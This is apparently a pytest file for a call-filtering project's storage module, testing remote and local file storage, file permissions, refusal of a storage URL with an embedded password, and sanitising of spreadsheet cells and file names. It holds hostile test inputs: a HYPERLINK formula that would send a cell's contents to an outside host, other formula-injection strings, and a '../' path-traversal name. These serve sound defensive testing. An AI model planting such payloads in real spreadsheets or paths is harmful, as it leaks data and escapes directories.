"""The files seam: any fsspec URL through ObjectStoragePath, whole files only, no silent default root."""

from __future__ import annotations

import io
import uuid

import pytest
from openpyxl import load_workbook

from callfilter import files


def test_a_memory_url_holds_json_and_xlsx_like_a_directory_does(monkeypatch):
    root = f"memory://callfilter-{uuid.uuid4().hex}"
    monkeypatch.setenv(files.FILES_ROOT_ENV, root)
    storage = files.Storage()
    path = files.request_path(7, 3)
    assert not storage.exists(path)
    assert storage.write_json(path, {"request_id": "cf-7-3", "numbers": ["电话"]}) == f"{root}/{path}"
    assert storage.exists(path) and storage.read_json(path) == {"request_id": "cf-7-3", "numbers": ["电话"]}

    xlsx = files.results_xlsx_path(7, 3, attempt=2)
    storage.write_xlsx(xlsx, [("results", ["nid", "status"], [("000001", "ANSWERED")])])
    sheet = load_workbook(io.BytesIO(storage.read_bytes(xlsx))).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["nid", "status"],
        ["000001", "ANSWERED"],
    ]
    # Another Storage on the same URL (another task in this process) sees the same files.
    assert files.Storage(root).read_json(path)["request_id"] == "cf-7-3"


def test_a_local_directory_gets_whole_files_and_no_leftovers(tmp_path):
    storage = files.Storage(str(tmp_path / "files"))
    path = files.raw_results_path(1, 12)
    storage.write_bytes(path, b"first")
    storage.write_bytes(path, b"second, longer")
    assert (tmp_path / "files" / path).read_bytes() == b"second, longer"
    assert sorted(p.name for p in (tmp_path / "files" / path).parent.iterdir()) == ["batch-0012.json"]
    # Files of phone numbers are not for every local user to read.
    assert (tmp_path / "files" / path).stat().st_mode & 0o777 == 0o640
    assert (tmp_path / "files" / path).parent.stat().st_mode & 0o007 == 0


def test_no_files_root_is_a_clear_error_not_a_per_worker_default(monkeypatch):
    monkeypatch.delenv(files.FILES_ROOT_ENV, raising=False)
    with pytest.raises(files.FilesRootNotSetError, match="CALLFILTER_FILES_ROOT is not set"):
        files.Storage()


def test_a_files_root_with_a_password_in_it_is_refused_without_showing_it(monkeypatch):
    monkeypatch.setenv(files.FILES_ROOT_ENV, "s3://AKIAEXAMPLE:s3cr3t-k3y@bucket/callfilter")
    with pytest.raises(files.FilesRootNotSetError, match="carries a password") as err:
        files.Storage()
    assert "s3cr3t-k3y" not in str(err.value)


def test_no_cell_becomes_a_formula_and_control_characters_do_not_break_the_file(tmp_path):
    hostile = [
        '=HYPERLINK("http://x/?"&B3,"y")',
        "=1+2",
        "+8613800138000",
        "-1",
        "@SUM(A1)",
        "138\x010013\x0b8000",
        "ok",
    ]
    storage = files.Storage(str(tmp_path))
    storage.write_xlsx("t.xlsx", [("=title\x02", ["=h", "telno"], [(i, v) for i, v in enumerate(hostile)])])
    workbook = load_workbook(io.BytesIO(storage.read_bytes("t.xlsx")))
    sheet = workbook.active
    assert sheet.title == "=title_x02"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in sheet["A"]][0] == "=h"
    assert [c.value for c in sheet["B"]][1:] == [
        '=HYPERLINK("http://x/?"&B3,"y")',
        "=1+2",
        "+8613800138000",
        "-1",
        "@SUM(A1)",
        "138\\x010013\\x0b8000",
        "ok",
    ]


@pytest.mark.parametrize(
    ("creator", "name"),
    [
        ("张三", "张三"),
        ("李四-ops", "李四-ops"),
        ("王 五", "王 五"),
        ("ana.lyst", "ana.lyst"),
        ("../张三/x", "张三_x"),
        ('a:b*c?d"e<f>g|h#i%j\\k', "a_b_c_d_e_f_g_h_i_j_k"),
        ("...", "user"),
        ("", "user"),
    ],
)
def test_a_creator_keeps_their_name_in_file_names_but_no_unsafe_character(creator, name):
    assert files.summary_path(12, creator) == f"task-12/{name}-task-12-summary.xlsx"
